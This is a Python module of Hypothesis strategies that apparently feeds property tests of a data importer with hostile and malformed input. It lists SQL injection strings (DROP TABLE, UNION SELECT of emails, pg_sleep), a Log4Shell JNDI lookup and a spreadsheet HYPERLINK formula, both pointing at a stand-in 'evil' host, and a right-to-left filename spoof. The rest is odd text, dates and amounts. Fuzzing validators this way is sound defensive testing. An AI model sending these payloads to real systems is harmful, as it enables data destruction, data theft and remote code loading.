"""Hypothesis strategies of hostile input: injection strings, odd text, broken values."""

from __future__ import annotations

from hypothesis import strategies as st

INJECTIONS = (
    "'; DROP TABLE customers; --",
    "\" OR 1=1 --",
    "' OR '1'='1",
    "Robert'); DROP TABLE interactions;--",
    "1; DELETE FROM audit_log",
    "' UNION SELECT external_id, email FROM customers --",
    "%' OR name LIKE '%",
    "_%\\",
    "$$; DROP TABLE events; $$",
    "'); SELECT pg_sleep(5); --",
    "admin'/*",
    "${jndi:ldap://evil/a}",
    "=HYPERLINK(\"http://evil\")",
    "\u202egnp.exe",
)
"""Classic SQL (and spreadsheet/log) injection strings."""

NUL = "x\x00y"
"""Text with a NUL character: refused by validation (its own test,
test_reliability_input.py::test_text_with_a_nul_character_is_refused_clearly)."""

SURROGATE = "\ud800"
"""A lone UTF-16 surrogate: a UTF-8 CSV file cannot hold it, JSON can (as an escape); kept
out of the shared strategies and covered by
test_reliability_input.py::test_text_with_a_lone_surrogate_is_refused_clearly."""

_CHARS = st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))
_text = st.text(alphabet=_CHARS, max_size=30)

odd_text = st.one_of(
    st.sampled_from(INJECTIONS),
    _text,
    st.text(alphabet=st.characters(codec="utf-8", blacklist_characters="\x00",
                                   blacklist_categories=("Cs",)), max_size=12),
    st.sampled_from(["", " ", "\t", "\n", "\r\n", "null", "None", "NaN", "-1", "0", "1e400",
                     "9" * 30, "2024-02-30", "2024-13-01T00:00:00", "\ufeff", "é", "日本語"]),
)
"""Free text an attacker or a broken export might send."""

json_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(min_value=-10**20, max_value=10**20),
              st.floats(allow_nan=False, allow_infinity=False), odd_text),
    lambda children: st.one_of(st.lists(children, max_size=4),
                               st.dictionaries(odd_text, children, max_size=4)),
    max_leaves=10,
)
"""Any JSON value (as Python), nested a little."""

amounts = st.one_of(
    st.decimals(min_value=-1000, max_value=10**6, places=2, allow_nan=False).map(str),
    st.sampled_from(["", "abc", "1e400", "NaN", "Infinity", "-0", "0.00001", "12,50", "1_000",
                     "99999999999999999999", " 7 ", "0x10"]),
)
"""Amount cells: valid decimals and broken ones."""

timestamps = st.one_of(
    st.datetimes(min_value=__import__("datetime").datetime(1900, 1, 1),
                 max_value=__import__("datetime").datetime(2100, 1, 1)).map(
        lambda d: d.isoformat() + "+00:00"),
    st.dates().map(str),
    st.sampled_from(["", "yesterday", "2024-02-30", "2024-06-01T25:00:00", "2024-06-01T10:00:00",
                     "2024-06-01T10:00:00+14:00", "2024-06-01T10:00:00-23:59", "0000-01-01"]),
)
"""Time cells: valid ISO 8601, naive, impossible, garbage."""
